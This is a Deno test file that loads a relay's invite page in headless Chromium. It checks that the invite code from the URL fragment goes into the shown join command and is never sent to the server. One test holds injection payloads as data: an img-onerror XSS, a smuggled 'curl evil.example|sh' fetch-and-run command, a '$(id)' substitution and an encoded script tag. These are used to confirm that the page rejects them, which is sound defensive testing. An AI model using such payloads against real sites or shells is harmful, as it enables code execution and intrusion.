/** The relay's page in a real browser. Ignored where there is no Chromium. */
import assert from "node:assert/strict";
import { SMALL_CLIENT, withSite } from "../site_helpers.ts";
import { CHROMIUM } from "./_browser.ts";

const CODE = "AZv0ZBMAOqV6Dd2GQrXRMh8u4k0vJ0CcU9yQ2xgq3b1mZ7w8Xn5pT6sK";
/** Far more than it takes. */
const DEADLINE_MS = 120_000;

/** What the browser makes of a page: its document once the script has run, and what it said on its console. */
async function look(url: string): Promise<{ dom: string; said: string }> {
  const profile = await Deno.makeTempDir({ prefix: "sotto-browser-" });
  try {
    const child = new Deno.Command(CHROMIUM ?? "", {
      args: [
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-background-networking",
        "--disable-component-update",
        "--no-first-run",
        "--enable-logging=stderr",
        `--user-data-dir=${profile}`,
        "--dump-dom",
        url,
      ],
      stdin: "null",
      stdout: "piped",
      stderr: "piped",
    }).spawn();
    const timer = setTimeout(() => child.kill("SIGKILL"), DEADLINE_MS);
    const { stdout, stderr } = await child.output();
    clearTimeout(timer);
    const decoder = new TextDecoder();
    const said = decoder.decode(stderr).split("\n").filter((line) => line.includes("CONSOLE")).join("\n");
    return { dom: decoder.decode(stdout), said };
  } finally {
    await Deno.remove(profile, { recursive: true }).catch(() => {}); // a helper of the browser may still write there
  }
}

/** The relay with somebody in front of it who writes down everything that the browser sends. */
async function watched(test: (url: string, sent: string[]) => Promise<void>): Promise<void> {
  await withSite({ contents: { "notes.txt": "" }, site: { client: SMALL_CLIENT } }, async ({ base }) => {
    const sent: string[] = [];
    const front = Deno.serve({ port: 0, hostname: "127.0.0.1", onListen() {} }, async (request) => {
      const headers = [...request.headers].map(([name, value]) => `${name}: ${value}`).join("\n");
      sent.push(`${request.method} ${request.url}\n${headers}\n${await request.text()}`);
      const { pathname, search } = new URL(request.url);
      return await fetch(`${base}${pathname}${search}`, {
        headers: { accept: request.headers.get("accept") ?? "" },
      });
    });
    try {
      await test(`http://127.0.0.1:${front.addr.port}`, sent);
    } finally {
      await front.shutdown();
    }
  });
}

/** The text of an element without others in it that matter. */
function textOf(dom: string, pattern: RegExp): string {
  return (pattern.exec(dom)?.[1] ?? "").replace(/<[^>]*>/g, "");
}

Deno.test({
  name: "in a browser the page puts the code of the link into the command and sends it to nobody",
  ignore: CHROMIUM === undefined,
  fn: () =>
    watched(async (url, sent) => {
      const { dom, said } = await look(`${url}/#${CODE}`);
      const command = textOf(dom, /<section id="invited">[\s\S]*?<pre>([\s\S]*?)<\/pre>/);
      assert.equal(command, `deno run -A ${url}/client.js join "${url}/#${CODE}"`);
      assert.match(dom, /<p id="damaged" hidden/);
      assert.ok(dom.includes(`create --nick alice --relay <span data-origin="">${url}</span>`));
      assert.deepEqual(sent.map((request) => request.split("\n")[0]), [`GET ${url}/`]);
      assert.ok(!sent.join("\n").includes(CODE));
      assert.equal(said, "", "the policy of the page blocks nothing of its own");
    }),
});

Deno.test({
  name: "in a browser a page without a code invites nobody",
  ignore: CHROMIUM === undefined,
  fn: () =>
    watched(async (url) => {
      const { dom } = await look(`${url}/`);
      assert.match(dom, /<section id="invited" hidden/);
      assert.match(dom, /<p id="damaged" hidden/);
    }),
});

Deno.test({
  name: "in a browser nothing but a code gets from the address into the page",
  ignore: CHROMIUM === undefined,
  fn: () =>
    watched(async (url, sent) => {
      for (
        const evil of [
          `<img src="${url}/stolen" onerror="document.title='pwned'">`,
          `${CODE}";curl evil.example|sh;"`,
          `${CODE}$(id)`,
          "%3Cscript%3Edocument.title='pwned'%3C/script%3E",
        ]
      ) {
        const { dom } = await look(`${url}/#${evil}`);
        assert.match(dom, /<section id="invited" hidden/, evil);
        assert.match(dom, /<p id="damaged"><strong>/, evil);
        assert.doesNotMatch(dom, /<img|pwned|evil|\$\(id\)/);
      }
      assert.ok(sent.every((request) => request.startsWith(`GET ${url}/\n`)), sent.join("\n\n"));
    }),
});
